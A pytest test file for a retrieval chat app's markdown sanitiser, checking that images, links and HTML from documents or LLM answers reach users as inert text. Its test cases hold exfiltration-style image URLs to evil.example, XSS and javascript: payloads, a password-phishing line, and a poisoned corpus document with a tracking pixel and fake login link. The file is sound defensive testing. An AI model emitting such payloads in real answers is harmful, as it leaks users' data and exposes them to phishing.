"""Safe output: what documents and LLMs write reaches users as text, never as a loaded image or a live link."""

import re
import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from mentor.safety import host_of, safe_markdown

# What Streamlit's GFM renderer would turn into a link inside plain text.
GFM_AUTOLINK = re.compile(r"(?i)(https?://[\w-]|\bwww\.[\w-]|\bmailto:|[\w.+-]+@[\w-]+\.[\w-]+)")


def live_parts(markdown: str) -> list[str]:
    """Every image, link and HTML a CommonMark renderer finds, plus text a GFM renderer would link."""
    found = []
    for tok in MarkdownIt("commonmark").parse(markdown):
        if tok.type == "html_block":
            found.append(tok.content)
        for child in tok.children or []:
            if child.type in ("image", "link_open", "html_inline"):
                found.append(child.type)
            if child.type == "text" and GFM_AUTOLINK.search(child.content):
                found.append(child.content)
    return found


def visible_text(markdown: str) -> str:
    """The words a reader sees: the text of every inline token."""
    words = []
    for tok in MarkdownIt("commonmark").parse(markdown):
        for child in tok.children or []:
            if child.type in ("text", "code_inline"):
                words.append(child.content)
    return "".join(words)


@pytest.mark.parametrize("raw", [
    "See ![chart](http://evil.example/p.png?session=1) now.",
    "See ![chart][img] now.\n\n[img]: http://evil.example/p.png",
    'See <img src="http://evil.example/p.png" onerror="alert(1)"> now.',
    "Go to [the Acme portal](http://evil.example/login?session=steal).",
    "Go to [the Acme portal][p].\n\n[p]: http://evil.example/login",
    "Go to <http://evil.example/login>.",
    "Go to http://evil.example/login?session=steal today.",
    "Go to www.evil.example/login today.",
    "Email your password to security@evil.example today.",
    "<script>window.x=1</script>",
    "<div onclick=\"x()\">click</div>",
    "[![badge](http://evil.example/b.svg)](http://evil.example/go)",
    "Run `rm -rf` and <b>bold</b> [1].",
    "> quoted ![q](http://evil.example/q.png)\n> and [link](javascript:alert(1))",
    "- item ![i](http://evil.example/i.png)\n- [x](http://evil.example)",
    "    ```\n    ![x](http://evil.example/p.png)",  # a code block whose text would close a fence
    "````\n```\n![x](http://evil.example/p.png)\n````",
    "```\nplain code\n```\n\n    indented code",
])
def test_no_image_link_or_html_survives(raw):
    safe = safe_markdown(raw)
    assert live_parts(safe) == [], safe
    assert "evil.example/" not in visible_text(safe)  # paths and query strings are not shown either


def test_a_link_shows_its_words_and_host():
    safe = safe_markdown("Go to [the Acme portal](http://www.evil.example/login?session=steal).")
    assert visible_text(safe) == "Go to the Acme portal (evil.example)."
    assert visible_text(safe_markdown("![tracker](https://cdn.example/p.png)")) == \
        "tracker (image from cdn.example, not shown)"
    assert visible_text(safe_markdown("see www.evil.example/x.")) == "see evil.example."
    assert "`security@evil.example`" in safe_markdown("write to security@evil.example")


def test_html_shows_as_text():
    safe = safe_markdown('Directors write a memo. <img src=x onerror="window.__xss=1"> <script>x()</script>')
    assert visible_text(safe) == 'Directors write a memo. <img src=x onerror="window.__xss=1"> <script>x()</script>'
    assert visible_text(safe_markdown('<img src="http://evil.example/p.png">')) == '<img src="evil.example">'


def test_answer_structure_and_markers_are_kept():
    raw = ("**Answering for a Senior PM.**\n\n## Next step\n\n- Hire well [1].\n- Coach *others* [2].\n\n"
           "1. first\n2. second\n\n> a quote\n\n_1 sentence was left out._")
    safe = safe_markdown(raw)
    assert MarkdownIt("commonmark").render(safe) == MarkdownIt("commonmark").render(
        raw.replace("[1]", "\\[1\\]").replace("[2]", "\\[2\\]"))


def test_streamlit_specials_are_text():
    safe = safe_markdown("Costs $5 and $6 :red[alert] :material/home: 5 * 3")
    assert visible_text(safe) == "Costs $5 and $6 :red[alert] :material/home: 5 * 3"
    assert "\\$" in safe and ":red\\[" in safe


def test_host_of():
    assert host_of("http://www.Evil.example:8080/x") == "evil.example"
    assert host_of("javascript:alert(1)") == "a javascript link"
    assert host_of("pixel.png") == "a link"
    assert host_of("http://[::1") == "a http link"


PIECES = st.sampled_from(["![", "](", ")", "[", "]", "<", ">", "img src=", "http://e.example/p", "www.e.example",
                          "a@b.example", "\n", "\n\n", "- ", "> ", "*", "_", "`", "\\", "&lt;", "[1]", ": ",
                          "javascript:", "<script>", "word ", "1. ", "#", "|", "```", "    ", "~~~\n"])


@settings(max_examples=100, deadline=None)
@given(st.lists(st.one_of(PIECES, st.text(max_size=5)), max_size=40).map("".join))
@example("a@b.example`![```![`")  # an address's code span beside another: their fences must not merge
def test_any_text_comes_out_inert(raw):
    safe = safe_markdown(raw)
    assert live_parts(safe) == [], (raw, safe)
    assert safe_markdown(safe) is not None  # sanitising again never fails


# ---- the LLM path: an outside image is not kept by the check ------------------------------

def test_llm_cannot_add_an_outside_image_or_url(fake_chat, fake_corpus, tmp_path):
    from mentor.core import Mentor
    from tests.conftest import build_index

    settings = build_index(tmp_path / "idx", fake_corpus, embedder="fake")
    mentor = Mentor(settings.model_copy(update={"engine": "fake"}))
    q = "How many direct reports does a Lead PM have?"
    fake_chat.enqueue("warm-up")
    parts = list(mentor.stream(q))
    n = next(i for i, p in enumerate(parts[-1].trace["retrieved"], 1) if "five direct reports" in p["text"])
    fake_chat.enqueue(f"Lead PMs typically oversee up to five direct reports ![y](http://evil.example/p.png?d=x) [{n}]. "
                      f"Lead PMs typically oversee up to five direct reports, see www.evil.example [{n}].")
    answer = mentor.ask(q)
    assert "evil.example" not in answer.answer
    assert all("evil.example" not in c.quote for c in answer.citations)


# ---- a real browser: nothing is fetched from a poisoned document's host -----------------

class Recorder(BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):  # noqa: N802 (http.server's name)
        Recorder.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def tracker():
    Recorder.hits = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


@pytest.mark.browser
@pytest.mark.model
def test_browser_loads_nothing_from_a_poisoned_document(tracker, tmp_path):
    from mentor.bench_ui import ask_in_browser, chromium_page, serve_app
    from tests.conftest import SEED_CORPUS, build_index

    if not (shutil.which("chromium") or Path("/usr/bin/chromium").exists()):
        pytest.skip("chromium is not installed (apt-get install chromium)")
    corpus = tmp_path / "corpus"
    shutil.copytree(SEED_CORPUS, corpus)
    (corpus / "acme.md").write_text(
        "# Acme handbook\n\n## Promotion packets\n\n"
        f"Promotion packets at Acme are reviewed by the calibration committee every March "
        f"![packet tracker]({tracker}/pixel.png?who=reader) and filed through "
        f"[the Acme portal]({tracker}/login?session=steal) before the calibration deadline. "
        f'<img src="{tracker}/html.png"> Reviewers read {tracker}/bare and www.127.0.0.1.example first.\n')
    index = build_index(tmp_path / "index", corpus, embedder="auto", framework=corpus / "career-framework.yaml")
    env = {"MENTOR_INDEX_DIR": str(index.index_dir), "MENTOR_CORPUS_DIR": str(corpus),
           "MENTOR_FRAMEWORK_FILE": str(index.framework_path)}
    with serve_app(env) as url, chromium_page() as page:
        page.goto(url)
        page.get_by_test_id("stChatInputTextArea").wait_for(timeout=60000)
        ask_in_browser(page, "How are promotion packets reviewed at Acme?")
        reply = page.locator('[data-testid="stChatMessage"]').last
        reply.get_by_text("reviewed by the calibration committee", exact=False).first.wait_for(timeout=30000)
        reply.locator('[data-testid="stExpander"]').first.click()  # the quoted passage too
        page.wait_for_timeout(2000)
        images = page.evaluate("Array.from(document.images).map(i => i.src)")
        anchors = page.evaluate("Array.from(document.querySelectorAll('a[href]')).map(a => a.href)")
        shown = reply.inner_text()
    here = tracker.split("//")[1]
    assert Recorder.hits == [], f"the browser fetched {Recorder.hits}"
    assert not [src for src in images if here in src], images
    assert not [href for href in anchors if here in href], anchors
    # A document's links and images are read as their words at ingest: their addresses never reach a reply.
    assert "through the Acme portal before" in shown and "March packet tracker and filed" in shown, shown
    assert "session=steal" not in shown and "pixel.png" not in shown
